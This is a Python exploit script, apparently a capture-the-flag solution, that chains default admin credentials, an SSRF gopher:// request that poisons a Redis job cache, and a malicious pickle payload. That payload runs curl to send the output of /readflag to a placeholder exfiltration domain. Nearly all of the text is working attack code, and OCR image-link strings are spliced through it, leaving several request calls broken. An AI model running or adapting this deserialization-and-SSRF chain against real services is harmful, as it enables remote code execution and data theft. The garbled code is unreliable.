target = sys.argv[1]if not target.startswith('http://'):target = 'http://' + target
if not target.endswith('/'):
    target = target + '/'

class RCE():
    def __reduce__(self):
        return os.system, ('curl "<your exfil domain>/flag=$(/readflag)"',)
payload = pickle.dumps(RCE())
payload = b64encode(payload).decode()

with requests.Session() as s:
    # login as admin
    creds = { "username": "admin", "password": "admin" } + 'api/login', json=creds)
    print('[+] logged in as admin')

    # add job that will poison the redis cache with a
    # python serialized object that will get us RCE
    # redis command: HSET jobs 666 <base64 encoded serialized object>
    data = {
        "trapName": "SSRF",
        "trapURL": f"gopher://{payload}%0A"
    } + 'api/tracks/add', json=data)
    print('[+] added evil job to the rediscache')

    # trigger payloadprint('[+] waiting 10 seconds to make sure the job got executed')s.get(target + 'api/tracks/666/status')print('[+] triggered payload')